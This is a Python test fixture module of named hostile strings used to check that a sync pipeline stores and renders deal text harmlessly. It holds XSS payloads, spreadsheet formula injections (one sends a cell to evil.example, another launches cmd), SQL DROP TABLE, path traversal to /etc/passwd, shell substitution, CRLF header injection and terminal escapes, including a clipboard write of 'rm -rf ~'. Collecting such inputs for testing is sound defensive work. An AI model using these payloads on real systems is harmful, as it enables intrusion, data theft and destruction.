"""Texts that do harm where a program takes them for more than text.

Each has a name, by which a failing test is found. Most of them can be stored as they are; those
that no store can hold (a NUL, half a surrogate pair) or that are too long are apart, because the
first door that they come to has to turn them away, or to fit them.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from sync.records.composite_text import END, SEPARATOR
from tests.profiles import sampled

INJECTED: Final = "Error: everything is lost"
"""What the entries that hold a line end try to put on a line of its own."""

ALL_STORABLE: Final[Mapping[str, str]] = {
    # markup and script
    "html": '<b>bold</b> & <i title="x">it</i> &lt;kept&gt; &#106;',
    "script": "</title></textarea></style><script>alert(1)</script>",
    "event": '"><img src=x onerror=alert(1)><svg/onload=alert(2)>',
    "title-script": "<script>document.title='owned'</script><img src=x "
    "onerror=\"document.title='owned'\">",
    "attribute": "' onmouseover='alert(1)' x=\"",
    "script-link": "javascript:alert(1)//https://example.com",
    "comment": "<!-- --><![CDATA[ ]]><?php echo 1 ?>",
    "markdown-image": "![x](https://evil.example/p.png?leak=1) ![y][z]",
    "markdown-link": "[click](javascript:alert(1)) <https://evil.example> https://evil.example",
    "markdown-block": "# head ~~gone~~ **b** `code` > q | a | b | [[wiki]] #1 - [ ] :smile:",
    "textile": '!https://evil.example/p.png?leak=1! "click":https://evil.example h1. ??x?? +u+ @c@',
    "macro": "{{include(Secret)}} {{collapse(x)}} [[Secret]] #1 r1 user:admin attachment:x.png",
    "mention": "@admin and (@pm), @syncbot! &#64;admin",
    # templates and formats
    "braces": "{name} {{customer}} {0} {} {key!r} {name.__class__} }{",
    "jinja": "{{ 7*7 }} {% for x in y %} {# c #} ${7*7} <%= 7*7 %> #{7*7}",
    "percent": "%s %d %n %(name)s %% %",
    "format": "{:>1000000} {!x} \\1 \\g<0> $1 $(id) `id` ${IFS}",
    # terminals
    "csi": "\x1b[31mred\x1b[2J\x1b[1;1H\x1b[8mhidden",
    "osc-8": "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "osc-52": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "c1": "\x9b31mred\x9d0;owned\x9c \x90q\x84",
    "controls": "a\x08\x08b\x7f\x0e\x0f\x05\x11c",
    "carriage-return": f"fine\r{INJECTED}",
    # what cannot be seen
    "bidi-override": "abc\u202egpj.exe\u202c \u202dx",
    "bidi-isolate": "a\u2066b\u2067c\u2068d\u2069 \u200e\u200f\u061c",
    "zero-width": "pay\u200bpal \u2060word\ufeff so\u00adft \u180e",
    "tag-characters": "flag \U000e0041\U000e0042\U000e007f",
    "interlinear": "\ufff9base\ufffaabove\ufffb",
    "blank": "\u3164\u2800\u115f",
    # lines
    "new-line": f"fine\n{INJECTED}\nmore",
    "crlf-header": f"x\r\nSet-Cookie: owned=1\r\n\r\n{INJECTED}",
    "line-separators": f"a\u2028{INJECTED}\u2029{INJECTED}\x85{INJECTED}\x0b{INJECTED}\x0c",
    "forged-fact": "x\nProbability: 100 % ·\nValue: 1 EUR",
    "forged-fact-flat": "Value: 1 EUR · Probability: 100 % ·",
    "forged-separator": f"x\n{SEPARATOR}\nValue: 1 EUR\n{END}\ny",
    "separator-alone": SEPARATOR,
    "end-alone": END,
    "separator-typed": SEPARATOR.replace("―", "-").upper(),
    # spreadsheets
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1|cmd",
    "formula-minus": "-1+1|cmd",
    "formula-at": "@SUM(1+1)*cmd",
    "formula-quoted": "'=1+1",
    "formula-wide": "＝1+1",
    "cells": 'a,b;c\t"d""e"\n,",',
    # paths, shells and queries
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\C:\\con\\nul.txt",
    "address": "file:///etc/passwd?x=1#y",
    "sql": "'; DROP TABLE deals; -- \" OR 1=1 /*",
    "like": "%_\\%[a-z]*?",
    "json": '","admin":true,"x":"\\u0000\\',
    "option": "--config=/etc/passwd -rf",
    # our own marks
    "shell": "; touch owned & $(touch owned) `touch owned` > ~/x 'q' \"d\" \\ !! * # x",
    "marker": "pipeline-sync:acme:W-html",
    "marker-coded": "pipeline-sync:acme:%57%2Dhtml%00",
    "reference": "acme:W-html/kick-off",
    "label": "(tentative)",
    "label-twice": "(tentative) (lost) (tentative)",
    "label-cased": "(TENTATIVE)title",
    "no-description": "(no description)",
    # writing systems
    "right-to-left": "שלום עולם: مشروع تجريبي 123",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇸🇪 1️⃣",
    "combining": "Z" + "\u0335\u0321\u034f\u0489\u0301" * 40 + " end",
    "decomposed": "A\u030angstro\u0308m ﬁ ǅ ß İ ſ K",
    "case": "İI ıi ΣΑΣ ﬀ ẞ",
    "cjk": "庄子集释卷一内篇逍遥游第一北冥有鱼其名为鲲" * 3,
    "hangul": "안녕하세요" * 15,
    "astral": "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𒀀 𠀋𡈽𡌛",
    "widest-address": "爫♗㌀⣿" * 60,
    "cyrillic": "щука и лещ " * 30,
    "long-word": "x" * 900,
    "long-words": "Lorem ipsum dolor " * 50,
    "long-emoji": "🎉" * 300,
    "spaces": " \u00a0\u3000\u2003 a \t  b \u00a0",
    "odd-numbers": "NaN -Infinity 1e999 0x10 ٣٤ ½",
}
"""What deals may hold: kept letter by letter (in normal form), harmless wherever it comes out."""

_ALWAYS: Final = ("html",)
"""What tests ask for by name."""
STORABLE: Final[Mapping[str, str]] = {
    **{name: ALL_STORABLE[name] for name in _ALWAYS},
    **dict(sampled(ALL_STORABLE.items(), 6)),
}
"""What whole worlds are filled with: all, or in a sample every third."""

UNSTORABLE: Final[Mapping[str, str]] = {
    "nul": "a\x00b",
    "high-surrogate": "a\ud800b",
    "low-surrogate": "a\udfffb\udc1b",
    "too-long": "10 MB of text " * 750_000,
}
"""What no store takes."""

EVERYTHING: Final[Mapping[str, str]] = {**ALL_STORABLE, **UNSTORABLE}
